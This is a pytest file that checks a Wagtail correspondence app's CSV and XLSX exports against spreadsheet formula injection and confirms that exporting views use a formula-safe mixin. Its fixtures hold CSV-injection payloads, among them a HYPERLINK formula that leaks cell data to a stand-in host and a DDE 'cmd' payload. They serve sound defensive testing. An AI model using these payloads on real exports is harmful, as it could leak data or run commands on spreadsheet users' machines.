"""Spreadsheet exports neutralise formulas (OWASP's CSV injection rule): a cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, CSV
quotes every cell (so that a separator inside a value cannot start a new cell in a locale
that splits on it), and no XLSX cell is ever a formula. Subjects and sender names come from
customers' emails; titles and names from staff. Real numbers stay numbers.

Every export of the product is tried: the register, the letters list, the fragment list,
the audit log, the print room's manifest; and every view of the site that can export
columns is checked to use the formula-safe mixin."""

import copy
import csv
import datetime
import decimal
import inspect
import io

import openpyxl
import pytest
from django.core.files.storage import storages
from django.urls import get_resolver
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from wagtail_correspondence import roles
from wagtail_correspondence.exports import FORMULA_TRIGGERS, FormulaSafeExportMixin, neutralise
from wagtail_correspondence.models import Department, Fragment
from wagtail_correspondence.services import letters as letter_service
from wagtail_correspondence.services import register as register_service

from . import factories

ENTRIES = "/admin/correspondence/register/entries/"
LETTERS = "/admin/correspondence/letters/"
FRAGMENTS = "/admin/correspondence/fragments/"
AUDIT_LOG = "/admin/correspondence/audit-log/"

# What a customer can put in an email's subject or sender name.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
    "+1",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "Dupont;=1+1",  # a new cell in locales whose list separator is ";" unless the cell is quoted
]


def body(response):
    assert response.status_code == 200, response.status_code
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def csv_cells(content):
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    return [cell for row in rows for cell in row]


def xlsx_cells(content):
    """Every cell, its text as a spreadsheet program shows it: openpyxl leaves OOXML's escapes
    of control characters (``_x000D_`` for a carriage return) in inline strings as they are."""
    from openpyxl.utils.escape import unescape

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    for cell in cells:
        if isinstance(cell.value, str) and "_x" in cell.value:
            cell.value = unescape(cell.value)
    return cells


def assert_every_cell_quoted(content):
    """Written again with every cell quoted, the file is the same: no cell was left bare, so a
    ";" inside a value cannot start a cell in a spreadsheet that splits on ";"."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    again = io.StringIO(newline="")
    csv.writer(again, quoting=csv.QUOTE_ALL).writerows(rows)
    assert again.getvalue() == content.decode("utf-8-sig")


def assert_no_formula(response, kind, expected=()):
    """No cell can be read as a formula; each expected value is there, quoted."""
    content = body(response)
    if kind == "csv":
        cells = csv_cells(content)
        assert not [cell for cell in cells if cell[:1] in FORMULA_TRIGGERS]
        assert_every_cell_quoted(content)
    else:
        found = xlsx_cells(content)
        assert not [cell.coordinate for cell in found if cell.data_type == "f"]
        values = [cell.value for cell in found if isinstance(cell.value, str)]
        assert not [value for value in values if value[:1] in FORMULA_TRIGGERS]
        cells = values
    text = " | ".join(str(cell) for cell in cells)
    for value in expected:
        assert "'" + value in cells or any(cell.endswith("'" + value) for cell in cells), (value, text[:2000])
    return cells


@pytest.fixture
def department(db):
    return Department.add_root(instance=Department(name="Customer Service", code="customer-service"))


@pytest.fixture
def supervisor(make_user, department):
    user = make_user("supervisor", roles.SUPERVISORS)
    department.members.add(user)
    return user


@pytest.fixture
def hostile_entries(supervisor, department):
    return [register_service.register_entry(supervisor, subject=payload, sender_name=payload, kind="letter",
                                            channel="email", sender_email="x@example.org", department=department)
            for payload in PAYLOADS]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_register_export_holds_no_formula(client, supervisor, hostile_entries, kind):
    client.force_login(supervisor)
    response = client.get(ENTRIES, {"export": kind})
    # The subject is stored as sent (a leading tab or carriage return may be trimmed by the form
    # layer of another path; the service keeps what it was given).
    stored = {entry.subject for entry in hostile_entries}
    cells = assert_no_formula(response, kind, expected=[value for value in stored if value[:1] in FORMULA_TRIGGERS])
    assert sum(1 for cell in cells if cell == "'" + PAYLOADS[0]) == 2  # subject and sender


# The letters list, the fragments list, the audit log -------------------------------------

@pytest.fixture
def hostile_letter(one_customer, customer_dictionary, standard_layout, make_user, department):
    agent = make_user("agent", roles.AGENTS)
    department.members.add(agent)
    fragment = factories.fragment(customer_dictionary, key="short", html="<p>Dear {{ customer.first_name }},</p>")
    template = factories.letter_template(customer_dictionary, standard_layout, [fragment], channels=["print"])
    data = copy.deepcopy(factories.SAMPLE_DATA)
    data["customer"]["full_name"] = PAYLOADS[0]
    letter = letter_service.generate_letter(agent, letter_service.LetterRequest(
        template=template, data=data, channel="print"))
    return agent, letter


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_letters_list_export_holds_no_formula(client, hostile_letter, kind):
    agent, letter = hostile_letter
    assert letter.recipient_name == PAYLOADS[0]
    client.force_login(agent)
    assert_no_formula(client.get(LETTERS, {"export": kind}), kind, expected=[PAYLOADS[0]])


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_fragment_list_export_holds_no_formula(client, make_user, customer_dictionary, kind):
    factories.fragment(customer_dictionary, key="hostile", title="=HYPERLINK(\"http://evil.example\")")
    client.force_login(make_user("admin", roles.ADMINISTRATORS))
    assert_no_formula(client.get(FRAGMENTS, {"export": kind}), kind, expected=['=HYPERLINK("http://evil.example")'])


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_audit_log_export_holds_no_formula(client, make_user, customer_dictionary, kind):
    fragment = factories.fragment(customer_dictionary, key="hostile", title="-1+cmd|' /C calc'!A0")
    log(fragment, "wagtail.edit", user=make_user("author", roles.CONTENT_AUTHORS, first_name="@Mallory"))
    client.force_login(make_user("auditor", roles.AUDITORS))
    assert_no_formula(client.get(AUDIT_LOG, {"export": kind}), kind, expected=["-1+cmd|' /C calc'!A0"])


def test_the_print_manifest_holds_no_formula(make_user, one_customer, customer_dictionary, standard_layout,
                                             department, django_capture_on_commit_callbacks):
    from wagtail_correspondence.services.printing import build_print_run

    agent = make_user("agent", roles.AGENTS)
    fragment = factories.fragment(customer_dictionary, key="short", html="<p>Dear {{ customer.first_name }},</p>")
    template = factories.letter_template(customer_dictionary, standard_layout, [fragment], channels=["print"])
    data = copy.deepcopy(factories.SAMPLE_DATA)
    data["customer"]["full_name"] = "=1+1"
    data["customer"]["address"]["line1"] = "@SUM(1)"
    with django_capture_on_commit_callbacks(execute=True):
        letter_service.generate_letter(agent, letter_service.LetterRequest(template=template, data=data,
                                                                           channel="print"))
    run = build_print_run()
    with storages["print"].open(run.manifest_path.replace("manifest.json", "manifest.csv"), "rb") as handle:
        content = handle.read()
    cells = csv_cells(content)
    assert not [cell for cell in cells if cell[:1] in FORMULA_TRIGGERS], cells
    assert "'=1+1" in cells and "'@SUM(1)" in " ".join(cells)
    assert_every_cell_quoted(content)


# The rule itself -------------------------------------------------------------------------

def test_text_is_quoted_and_numbers_dates_stay_what_they_are():
    assert [neutralise(value) for value in PAYLOADS[:6]] == ["'" + value for value in PAYLOADS[:6]]
    assert neutralise("Dupont") == "Dupont" and neutralise("") == "" and neutralise("'=1") == "'=1"
    for value in (-5, -5.25, decimal.Decimal("-1250.40"), 0, True, None, datetime.date(2026, 3, 1)):
        assert neutralise(value) is value
    assert neutralise("-5") == "'-5"  # text from a customer stays text


def test_xlsx_cells_keep_numbers_as_numbers_and_never_hold_a_formula():
    class View(FormulaSafeExportMixin):
        list_export = ["amount", "note", "when"]

    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet()
    row = {"amount": decimal.Decimal("-5.20"), "note": "=1+1", "when": datetime.date(2026, 3, 1)}
    cells = list(View().generate_xlsx_row(sheet, row))
    assert [cell.data_type for cell in cells] == ["n", "s", "d"]
    assert cells[0].value == decimal.Decimal("-5.20") and cells[1].value == "'=1+1"
    # Characters XML cannot hold (a vertical tab in an email subject) would stop the export.
    (cell,) = View().generate_xlsx_row(sheet, {"note": "Re:\x0bclaim"})
    assert cell.value == "Re:\ufffdclaim" and cell.data_type == "s"


# No export left out ----------------------------------------------------------------------

def _patterns(patterns, prefix=""):
    for pattern in patterns:
        if hasattr(pattern, "url_patterns"):
            yield from _patterns(pattern.url_patterns, prefix + str(pattern.pattern))
        else:
            yield prefix + str(pattern.pattern), pattern.callback


def export_views():
    """(route, view class, columns) of every URL whose view can answer ?export=csv/xlsx. A route
    listed twice is answered by its first pattern (the reference site puts formula-safe
    versions of Wagtail's reports before Wagtail's own)."""
    first = {}
    for route, callback in _patterns(get_resolver().url_patterns):
        first.setdefault(route.replace("^", "").replace("$", ""), callback)
    for route, callback in first.items():
        view_class = getattr(callback, "view_class", None)
        initkwargs = getattr(callback, "view_initkwargs", {})
        owner = getattr(inspect.unwrap(callback), "__self__", None)
        if view_class is None and owner is not None and callback.__name__ == "index_view":
            view_class = owner.index_view_class  # wagtail-modeladmin's views come from methods
            initkwargs = {"list_export": owner.list_export}
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        yield route, view_class, list(initkwargs.get("list_export", view_class.list_export) or [])


def test_every_view_that_exports_columns_uses_the_formula_safe_mixin():
    found = list(export_views())
    assert any(route.endswith("correspondence/register/entries/") for route, _view, _columns in found)
    unsafe = [(route, view.__qualname__, columns) for route, view, columns in found
              if columns and not issubclass(view, FormulaSafeExportMixin)]
    assert not unsafe, unsafe
    # The ones with columns today: each one of them is safe (not just left without columns).
    safe = {route for route, view, columns in found if columns}
    for route in ("admin/correspondence/register/entries/", "admin/correspondence/fragments/",
                  "admin/correspondence/letters/", "admin/correspondence/audit-log/", "admin/reports/workflow/",
                  "admin/reports/locked/", "admin/reports/aging-pages/", "admin/redirects/"):
        assert any(found_route.startswith(route) for found_route in safe), route


def test_fragments_still_export_their_columns_in_order(client, make_user, customer_dictionary):
    factories.fragment(customer_dictionary, key="greeting", title="Greeting")
    client.force_login(make_user("admin", roles.ADMINISTRATORS))
    rows = list(csv.reader(io.StringIO(body(client.get(FRAGMENTS, {"export": "csv"})).decode("utf-8-sig"))))
    assert rows[0][:2] == ["Title", "Key"] and rows[1][:2] == ["Greeting", "greeting"]
    assert Fragment.objects.count() == 1
